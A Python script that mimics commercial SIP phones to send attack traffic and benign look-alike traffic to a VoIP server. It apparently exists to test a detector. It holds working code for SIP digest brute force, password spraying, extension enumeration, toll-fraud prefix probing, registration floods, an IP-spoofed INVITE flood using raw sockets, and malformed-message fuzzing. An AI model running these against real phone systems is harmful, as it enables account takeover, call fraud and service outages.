#!/usr/bin/env python3
"""Attacks, and ordinary traffic that resembles them, by a client that looks like a phone.

usage: attacker.py MODE TARGET [SOURCE...]; one mode a run, SOURCE are own addresses.
"""

import hashlib
import os
import random
import re
import socket
import struct
import sys
import time

AGENTS = ["Yealink SIP-T46S 66.85.0.5", "Grandstream GXP2170 1.0.11.6", "PolycomVVX-VVX_410-UA/5.9.5",
          "Cisco-CP8841/12.0.1", "Zoiper rv2.10.3.2", "MicroSIP/3.19.22"]
MODES = {}


def mode(function):
    MODES[function.__name__.replace("_", "-")] = function
    return function


def word(length=10):
    return "".join(random.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(length))


def md5(text):
    return hashlib.md5(text.encode()).hexdigest()


class Phone:
    """One address and port; sends requests and reads what comes back."""

    def __init__(self, target, source="0.0.0.0", agent=None):
        self.target = target
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((source, 0))
        self.socket.connect((target, 5060))
        self.socket.settimeout(1)
        self.host, self.port = self.socket.getsockname()
        self.agent = agent or random.choice(AGENTS)
        self.call, self.tag, self.cseq = word(), word(), random.randrange(1, 9000)

    def message(self, method, user, to, extra="", port=5060):
        self.cseq += 1
        return (f"{method} sip:{to + '@' if method != 'REGISTER' else ''}{self.target} SIP/2.0\r\n"
                f"Via: SIP/2.0/UDP {self.host}:{self.port};branch=z9hG4bK{word(16)};rport\r\n"
                f"Max-Forwards: 70\r\nFrom: <sip:{user}@{self.target}>;tag={self.tag}\r\n"
                f"To: <sip:{to}@{self.target}>\r\nCall-ID: {self.call}\r\nCSeq: {self.cseq} {method}\r\n"
                f"Contact: <sip:{user}@{self.host}:{self.port}>\r\nUser-Agent: {self.agent}\r\n"
                f"{extra}Content-Length: 0\r\n\r\n").encode()

    def ask(self, method, user, to=None, extra=""):
        self.socket.send(self.message(method, user, to or user, extra))
        try:
            return self.socket.recv(65535).decode("utf-8", "replace")
        except (socket.timeout, ConnectionError):
            return ""

    def renew(self):
        self.call, self.tag = word(), word()

    def register(self, user, password):
        """The status of the second try, with credentials."""
        challenge = self.ask("REGISTER", user)
        found = re.search(r'nonce="([^"]*)"', challenge)
        if not found:
            return challenge[8:11]
        uri = f"sip:{self.target}"
        response = md5(f"{md5(f'{user}:office:{password}')}:{found.group(1)}:{md5(f'REGISTER:{uri}')}")
        return self.ask("REGISTER", user, extra=(
            f'Authorization: Digest username="{user}", realm="office", nonce="{found.group(1)}", uri="{uri}", '
            f'response="{response}"\r\n'))[8:11]


@mode
def brute(target, _):
    phone = Phone(target)
    for i in range(20):
        phone.register("100", f"guess{i}")
        time.sleep(0.1)


@mode
def brute_distributed(target, sources):
    for i in range(15):
        Phone(target, sources[i % len(sources)]).register("100", f"guess{i}")
        time.sleep(0.2)


@mode
def spray(target, _):
    for i in range(14):
        Phone(target).register(("100", "101", "115", *(f"12{n}" for n in range(11)))[i], "Winter2026")
        time.sleep(0.2)


@mode
def crack(target, _):
    phone = Phone(target)
    for i in range(8):
        phone.register("115", f"11{i}" if i < 7 else "115")
        time.sleep(0.1)


@mode
def enumerate_users(target, _):
    for i in range(40):
        phone = Phone(target)
        phone.ask(random.choice(("REGISTER", "INVITE", "SUBSCRIBE")), str(3000 + i))
        time.sleep(0.05)


@mode
def enumerate_distributed(target, sources):
    for i in range(70):
        Phone(target, sources[i % len(sources)]).ask("REGISTER", str(4000 + i))
        time.sleep(0.05)


@mode
def methods(target, _):
    for method in "OPTIONS REGISTER INVITE MESSAGE SUBSCRIBE PUBLISH INFO REFER NOTIFY UPDATE".split():
        Phone(target).ask(method, "100")


@mode
def prefixes(target, _):
    phone = Phone(target)
    for prefix in ("", "9", "00", "9011", "000", "810"):
        phone.renew()
        phone.ask("INVITE", "100", f"{prefix}442079460000")
        time.sleep(0.3)


@mode
def flood_register(target, _):
    phone = Phone(target)
    for i in range(160):
        phone.renew()
        phone.socket.send(phone.message("REGISTER", str(i), str(i)))
        time.sleep(0.01)


@mode
def flood_options(target, _):
    phone = Phone(target)
    for _ in range(120):
        phone.renew()
        phone.socket.send(phone.message("OPTIONS", "100", "100"))
        time.sleep(0.01)


@mode
def probes(target, sources):
    for source, probe in zip(sources, (b"", b"OPTIONS", b"OPTIONS\r\n\r\n")):
        Phone(target, source).socket.send(probe)
        time.sleep(0.2)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


@mode
def flood_spoofed(target, _):
    """Calls from eighty addresses that are not ours."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(900):
        source = f"198.18.{i % 80}.7"
        phone = Phone(target)
        payload = phone.message("INVITE", str(i), "100").replace(phone.host.encode(), source.encode())
        phone.socket.close()
        udp = struct.pack(">HHHH", 5060, 5060, 8 + len(payload), 0) + payload
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0,
                           socket.inet_aton(source), socket.inet_aton(target))
        raw.sendto(head[:10] + struct.pack(">H", checksum(head)) + head[12:] + udp, (target, 0))
        time.sleep(0.004)


@mode
def fuzz(target, _):
    """Messages with different faults."""
    faults = [(b"SIP/2.0\r\nVia", b"SIP/7.0\r\nVia"), (b"CSeq: ", b"CSeq: x"), (b"Call-ID: ", b"Call-ID : \xff"),
              (b"From: <", b"From: \"<"), (b"To: <sip:", b"To: <<sip"), (b"branch=z9hG4bK", b"branch="),
              (b"Max-Forwards: 70", b"Max-Forwards: 99999"), (b"Content-Length: 0", b"Content-Length: -7")]
    for i in range(24):
        phone = Phone(target)
        old, new = faults[i % len(faults)]
        phone.socket.send(phone.message("INVITE", "100", "101").replace(old, new, 1))
        time.sleep(0.05)


@mode
def office(target, _):
    """Thirty phones behind one address start: each is challenged and answers."""
    for i in range(30):
        Phone(target).register("101", "hard-to-guess")
        time.sleep(0.15)


@mode
def mistyped(target, _):
    """A user gets the password wrong twice, then right."""
    phone = Phone(target)
    for password in ("hard-to-gess", "hardtoguess", "hard-to-guess"):
        phone.register("101", password)
        time.sleep(0.5)


@mode
def keep_alives(target, _):
    """A provider asks thirty times within a second whether we are there; a phone keeps its NAT open."""
    phone = Phone(target)
    for _ in range(30):
        phone.renew()
        phone.ask("OPTIONS", "100")
        time.sleep(0.03)
    phone.register("101", "hard-to-guess")
    for nothing in (b"\r\n\r\n", b"\0", b"", b"\r\n"):
        phone.socket.send(nothing)
        time.sleep(0.1)


@mode
def dialler(target, _):
    """A dialler of a registered account: some of its numbers are wrong."""
    phone = Phone(target)
    phone.register("101", "hard-to-guess")
    for i in range(16):
        phone.renew()
        phone.ask("INVITE", "101", ("100", "115", "2345")[i % 3])
        time.sleep(0.3)


if __name__ == "__main__":
    random.seed(int(os.environ.get("SEED", "1")))
    MODES[sys.argv[1]](sys.argv[2], sys.argv[3:])
